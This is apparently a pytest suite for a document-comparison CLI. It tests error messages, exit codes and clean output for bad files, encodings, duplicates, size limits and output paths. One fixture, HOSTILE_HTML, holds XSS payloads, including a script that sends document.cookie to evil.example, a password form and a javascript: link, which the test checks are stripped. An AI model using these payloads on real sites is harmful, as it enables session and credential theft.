"""Every kind of bad input gets one clear line, a non-zero exit and no output; odd but valid input works.

Each test calls the CLI's main() the way a user would and checks the message, the exit code and
that the output folder holds nothing afterwards.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
from pathlib import Path

import pytest

from compare.cli import main
from compare.errors import InputError, OptionsError, OutputError

STORY_A = (
    "Council approves new bridge\n\n"
    "The city council approved the new bridge on Monday. "
    "The bridge will cost 40 million dollars, the mayor said. "
    "Work starts in May and should take two years.\n"
)
STORY_B = (
    "Bridge plan passes\n\n"
    "On Monday the council voted for the bridge. "
    "Officials put the cost at 45 million dollars. "
    "Residents opposed the plan at a meeting last week.\n"
)
RUSSIAN = "Совет одобрил строительство нового моста в понедельник. Мост обойдётся в 40 миллионов долларов.\n"
FRENCH = "Le conseil a approuvé le nouveau pont lundi. Le coût sera de 40 millions, a déclaré le maire.\n"

INPUT = InputError.exit_code
OUTPUT = OutputError.exit_code
OPTIONS = OptionsError.exit_code


@pytest.fixture
def story(tmp_path: Path) -> Path:
    """A valid second report to go with the bad one."""
    path = tmp_path / "good.txt"
    path.write_text(STORY_A, encoding="utf-8")
    return path


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An empty output folder that must stay empty when a run fails."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def assert_fails(
    argv: list[str],
    capsys: pytest.CaptureFixture[str],
    *,
    code: int,
    message: str,
    out: Path | None,
) -> None:
    """The run exits with `code`, prints exactly one error line containing `message`, writes nothing."""
    got, stdout, stderr = run([*argv, "--quiet"], capsys)
    assert stderr.startswith("compare: error: "), stderr
    assert stderr.count("\n") == 1 and stderr.endswith("\n"), f"not one line: {stderr!r}"
    assert message in stderr, stderr
    assert "Traceback" not in stderr
    assert got == code, stderr
    assert stdout == ""
    if out is not None:
        assert sorted(p.name for p in out.iterdir()) == [], "output written on failure"


def report_argv(*inputs: Path | str, out: Path, fmt: str = "json") -> list[str]:
    return ["report", *map(str, inputs), "-o", str(out), "--format", fmt, "--embedder", "lexical"]


# --- paths ---------------------------------------------------------------------------------------


def test_missing_path(story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "nope.txt"
    assert_fails(
        report_argv(story, missing, out=out), capsys, code=INPUT, message=f"{missing}: no such file", out=out
    )


def test_missing_input_does_not_create_the_output_folder(
    story: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fresh = tmp_path / "fresh"
    assert_fails(
        report_argv(story, tmp_path / "nope.txt", out=fresh),
        capsys,
        code=INPUT,
        message="no such file",
        out=None,
    )
    assert not fresh.exists(), "a failed run created the output folder"


def test_directory_where_a_file_is_expected(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "notes.md"
    folder.mkdir()
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    argv = [*report_argv(story, other, out=out), "--notes", str(folder)]
    assert_fails(argv, capsys, code=INPUT, message=f"{folder}: notes file is a folder", out=out)


def test_directory_of_inputs_names_the_bad_files(
    out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "inputs"
    folder.mkdir()
    (folder / "a.txt").write_text(STORY_A, encoding="utf-8")
    (folder / "b.txt").write_text(STORY_B, encoding="utf-8")
    (folder / "scan.pdf").write_bytes(b"%PDF-1.7\n")
    (folder / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    assert_fails(report_argv(folder, out=out), capsys, code=INPUT, message="photo.png, scan.pdf", out=out)


def test_directory_of_inputs_with_a_binary_renamed_txt(
    out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "inputs"
    folder.mkdir()
    (folder / "a.txt").write_text(STORY_A, encoding="utf-8")
    (folder / "b.txt").write_bytes(b"%PDF-1.4\n1 0 obj\n")
    assert_fails(
        report_argv(folder, out=out),
        capsys,
        code=INPUT,
        message=f"{folder / 'b.txt'}: looks like a PDF",
        out=out,
    )


def test_empty_directory_of_inputs(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "empty"
    folder.mkdir()
    assert_fails(report_argv(story, folder, out=out), capsys, code=INPUT, message=f"{folder}: ", out=out)


def test_unknown_extension(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = tmp_path / "story.docx"
    doc.write_text(STORY_B, encoding="utf-8")
    assert_fails(
        report_argv(story, doc, out=out), capsys, code=INPUT, message="unsupported file type", out=out
    )


# --- content that is not text ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "file is empty"),
        (b"   \n\n\t \r\n", "file contains only whitespace"),
        ("\u00a0\u2003\n".encode(), "file contains only whitespace"),
    ],
    ids=["empty", "whitespace", "unicode-spaces"],
)
def test_empty_or_whitespace_file(
    data: bytes, message: str, story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.txt"
    bad.write_bytes(data)
    assert_fails(report_argv(story, bad, out=out), capsys, code=INPUT, message=f"{bad}: {message}", out=out)


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n", "a PDF document"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01", "a PNG image"),
        (_zip_bytes(), "a ZIP archive"),
    ],
    ids=["pdf", "png", "zip"],
)
def test_binary_file_renamed_txt(
    data: bytes, kind: str, story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "article.txt"
    bad.write_bytes(data)
    assert_fails(
        report_argv(story, bad, out=out), capsys, code=INPUT, message=f"{bad}: looks like {kind}", out=out
    )


def test_binary_garbage(story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "garbage.txt"
    bad.write_bytes(bytes(range(256)) * 16)
    assert_fails(
        report_argv(story, bad, out=out), capsys, code=INPUT, message=f"{bad}: is a binary file", out=out
    )


# --- legacy encodings: decoded, and the assumption said ------------------------------------------------


@pytest.mark.parametrize(
    ("text", "codec", "said"),
    [
        (RUSSIAN, "cp1251", "assumed cp1251"),
        (FRENCH, "latin-1", "assumed cp1252"),
        (FRENCH, "utf-16", "UTF-16 LE (byte-order mark)"),
    ],
    ids=["cp1251", "latin-1", "utf-16-bom"],
)
def test_legacy_encoding_is_decoded_and_said(
    text: str,
    codec: str,
    said: str,
    story: Path,
    out: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    legacy = tmp_path / "legacy.txt"
    legacy.write_bytes(text.encode(codec))
    code, _, stderr = run(report_argv(story, legacy, out=out), capsys)
    assert code == 0, stderr
    assert f"compare: note: {legacy}: " in stderr and said in stderr, stderr
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    texts = {document["id"]: document["text"] for document in report["documents"]}
    assert texts["legacy"] == text


def test_quiet_hides_the_encoding_note(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    legacy = tmp_path / "legacy.txt"
    legacy.write_bytes(RUSSIAN.encode("cp1251"))
    code, _, stderr = run([*report_argv(story, legacy, out=out), "--quiet"], capsys)
    assert code == 0
    assert stderr == ""


# --- sets of documents that cannot be compared ---------------------------------------------------------


def test_a_single_document(story: Path, out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert_fails(
        report_argv(story, out=out),
        capsys,
        code=INPUT,
        message="need at least two documents to compare, got 1",
        out=out,
    )


def test_the_same_file_twice(story: Path, out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert_fails(report_argv(story, story, out=out), capsys, code=INPUT, message=f"{story}", out=out)


def test_the_same_text_under_two_names(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    copy = tmp_path / "copy.txt"
    copy.write_text(STORY_A.replace("\n\n", "\n  \n"), encoding="utf-8")  # only white space differs
    assert_fails(
        report_argv(story, copy, out=out),
        capsys,
        code=INPUT,
        message="the same document was given twice",
        out=out,
    )


def test_duplicate_ids(out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first, second = tmp_path / "a" / "story.txt", tmp_path / "b" / "story.txt"
    first.write_text(STORY_A, encoding="utf-8")
    second.write_text(STORY_B, encoding="utf-8")
    assert_fails(
        report_argv(first, second, out=out),
        capsys,
        code=INPUT,
        message="duplicate document id 'story'",
        out=out,
    )


def test_duplicate_ids_from_metadata(out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    first, second = tmp_path / "one.txt", tmp_path / "two.txt"
    first.write_text("---\nid: same\n---\n" + STORY_A, encoding="utf-8")
    second.write_text(STORY_B, encoding="utf-8")
    (tmp_path / "two.meta.yaml").write_text("id: same\n", encoding="utf-8")
    assert_fails(
        report_argv(first, second, out=out),
        capsys,
        code=INPUT,
        message="duplicate document id 'same'",
        out=out,
    )


# --- huge input ----------------------------------------------------------------------------------------


def test_a_long_line_without_punctuation_is_split(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ("council bridge money river mayor vote plan city work year " * 10_000)[:100_000]
    long_line = tmp_path / "line.txt"
    long_line.write_text(words + "\n", encoding="utf-8")
    code, _, stderr = run([*report_argv(story, long_line, out=out), "--quiet"], capsys)
    assert code == 0, stderr
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    pieces = [s for s in report["statements"] if s["document"] == "line"]
    assert len(pieces) > 1, "a 100 kB line stayed one statement"
    assert max(len(s["text"]) for s in pieces) <= 2_000
    assert "".join(s["text"] for s in pieces).replace(" ", "") == words.replace(" ", "")


def test_a_50_megabyte_input_is_refused_with_the_limit_named(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    huge = tmp_path / "huge.txt"
    sentence = b"The council approved the bridge on Monday after a long debate. "
    with huge.open("wb") as handle:
        handle.write(sentence * (50_000_000 // len(sentence) + 1))
        handle.truncate(50_000_000)
    assert_fails(
        report_argv(story, huge, out=out),
        capsys,
        code=INPUT,
        message=f"{huge}: file is 50 MB, over the input limit of 10 MB",
        out=out,
    )


# --- hostile HTML --------------------------------------------------------------------------------------

HOSTILE_HTML = """<!doctype html>
<html><head><title>Bridge approved</title>
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
<link rel="stylesheet" href="https://evil.example/x.css">
</head><body>
<article>
<h1>Council approves new bridge</h1>
<p>The city council approved the new bridge on Monday.</p>
<script>alert('xss-in-body')</script>
<iframe src="https://evil.example/frame"></iframe>
<p>The bridge will cost 40 million dollars, the mayor said.</p>
<form action="https://evil.example/post"><input name="password"><button>Log in</button></form>
<img src="https://evil.example/pixel.gif" onerror="alert('img')">
<img src="file:///etc/passwd">
<p>Work starts in May <a href="javascript:alert(1)">and</a> should take two years.</p>
</article></body></html>
"""


def test_html_with_scripts_iframes_forms_and_external_images(
    out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = tmp_path / "page.html"
    page.write_text(HOSTILE_HTML, encoding="utf-8")
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    code, _, stderr = run([*report_argv(page, other, out=out, fmt="json,html,md"), "--quiet"], capsys)
    assert code == 0, stderr
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    text = next(d["text"] for d in report["documents"] if d["id"] == "page")
    assert "approved the new bridge" in text and "40 million dollars" in text
    for hostile in (
        "alert(",
        "document.cookie",
        "evil.example",
        "password",
        "Log in",
        "/etc/passwd",
        "javascript:",
    ):
        assert hostile not in text, hostile
    html = (out / "report.html").read_text(encoding="utf-8").lower()
    for hostile in ("evil.example", "<iframe", 'name="password"', "javascript:", "file:///", "onerror"):
        assert hostile not in html, hostile
    markdown = (out / "report.md").read_text(encoding="utf-8")
    assert "evil.example" not in markdown and "alert(" not in markdown


# --- output ------------------------------------------------------------------------------------------


def test_output_path_is_an_existing_file(
    story: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    target = tmp_path / "report.json"
    target.write_bytes(b"previous")
    assert_fails(
        report_argv(story, other, out=target),
        capsys,
        code=OUTPUT,
        message=f"{target}: output path is an existing file",
        out=None,
    )
    assert target.read_bytes() == b"previous"


def test_missing_output_folder_parent(
    story: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    target = tmp_path / "no" / "such" / "folder"
    assert_fails(report_argv(story, other, out=target), capsys, code=OUTPUT, message=f"{target}: ", out=None)
    assert not (tmp_path / "no").exists()


def test_output_folder_under_a_file(story: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    blocker = tmp_path / "blocker"
    blocker.write_bytes(b"x")
    assert_fails(
        report_argv(story, other, out=blocker / "out"), capsys, code=OUTPUT, message="blocker", out=None
    )
    assert blocker.read_bytes() == b"x"


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write to read-only folders")
def test_unwritable_output_folder(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    out.chmod(0o500)
    try:
        assert_fails(report_argv(story, other, out=out), capsys, code=OUTPUT, message="not writable", out=out)
    finally:
        out.chmod(0o700)


def test_unwritable_output_folder_even_for_root(
    story: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    target = Path("/proc/self")  # a folder nobody, root included, can create files in
    assert_fails(report_argv(story, other, out=target), capsys, code=OUTPUT, message=f"{target}", out=None)


def test_report_name_taken_by_a_folder(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    (out / "report.json").mkdir()
    assert_fails(
        report_argv(story, other, out=out), capsys, code=OUTPUT, message="report.json: exists", out=None
    )
    assert sorted(p.name for p in out.iterdir()) == ["report.json"]


def test_stdout_with_several_formats(story: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    argv = ["report", str(story), str(other), "-o", "-", "--format", "json,md"]
    assert_fails(argv, capsys, code=OPTIONS, message="-o - writes one format", out=None)


def test_valid_inputs_write_the_report(
    story: Path, out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "other.txt"
    other.write_text(STORY_B, encoding="utf-8")
    code, _, stderr = run([*report_argv(story, other, out=out), "--quiet"], capsys)
    assert code == 0, stderr
    # and no temporary files left behind, in the folder or beside it
    assert sorted(p.name for p in out.iterdir()) == [".compare-report", "report.json"]
    assert not [p.name for p in out.parent.iterdir() if p.name.startswith(".out.")]
